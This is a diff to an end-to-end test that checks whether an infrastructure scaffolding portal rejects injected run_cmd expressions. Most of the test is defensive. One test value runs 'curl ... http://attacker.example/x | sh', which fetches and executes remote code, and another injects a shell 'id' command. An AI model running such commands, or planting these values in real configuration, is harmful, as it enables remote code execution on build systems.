@@ -30,12 +30,38 @@ test("alice scaffolds a VPC into payments dev, the PR merges, and she promotes i
   await expect(page).toHaveURL(/\/scaffold\/new\?/);
   await expect(page.getByRole("heading", { level: 1, name: /^Scaffold vpc 2\.0\.0/ })).toBeVisible();
 
+  // The attack from the security review, posted straight to the API with alice's session: a
+  // run_cmd as an ordinary input, then as a "reference". Both are refused and no PR opens.
+  const versionId = new URL(page.url()).searchParams.get("versionId");
+  const listPulls = async () => (await (await request.get(`${e2eUrls.github}/__emulator/pulls?repo=${CONSUMER_REPO}`)).json()) as unknown[];
+  const pullsBefore = (await listPulls()).length;
+  const attack = { __expr: 'run_cmd("sh", "-c", "curl -s http://attacker.example/x | sh")' };
+  const post = (extra: Record<string, unknown>) =>
+    page.request.post("/api/scaffolds", {
+      data: { workload: "payments", moduleVersionId: versionId, env: "dev", region: "eu-west-1", unitName: "attack", values: { name: attack }, ...extra },
+    });
+  const plain = await post({ idempotencyKey: `e2e-attack-plain-${Date.now()}` });
+  expect(plain.status()).toBe(422);
+  // (The other inputs are missing too; only name's error matters here.)
+  expect((await plain.json()).error.fieldErrors).toContainEqual({ path: "name", message: expect.stringMatching(/^This field takes a plain value/) });
+  const asReference = await post({ idempotencyKey: `e2e-attack-ref-${Date.now()}`, references: ["name"] });
+  expect(asReference.status()).toBe(422);
+  expect((await asReference.json()).error.fieldErrors).toContainEqual({ path: "name", message: expect.stringMatching(/^The function run_cmd\(\) is not allowed/) });
+  expect((await listPulls()).length).toBe(pullsBefore);
+
   // Where: alice is a member of payments only.
   await expect(page.getByLabel("Workload")).toHaveValue("payments");
   await page.getByLabel("Environment").selectOption("dev");
   await page.getByLabel("Region").selectOption("eu-west-1");
   await page.getByLabel("Unit name").fill(UNIT);
   await expect(page.getByTestId("unit-path")).toHaveText(`dev/eu-west-1/${UNIT}/terragrunt.hcl`);
+
+  // A field switched to "reference" takes only what the portal writes: run_cmd is refused in the browser.
+  await page.getByRole("button", { name: "Use a reference for Name", exact: true }).click();
+  await page.locator("#field-name").fill('run_cmd("sh", "-c", "id")');
+  await page.getByRole("button", { name: "Preview", exact: true }).click();
+  await expect(page.locator("#field-name-error")).toContainText("The function run_cmd() is not allowed");
+  await page.getByRole("button", { name: "Use a plain value" }).click();
 
   // Inputs: plain fields, a map(object) group, a nested object and map rows, with one invalid CIDR.
   await page.locator("#field-name").fill("payments-edge");
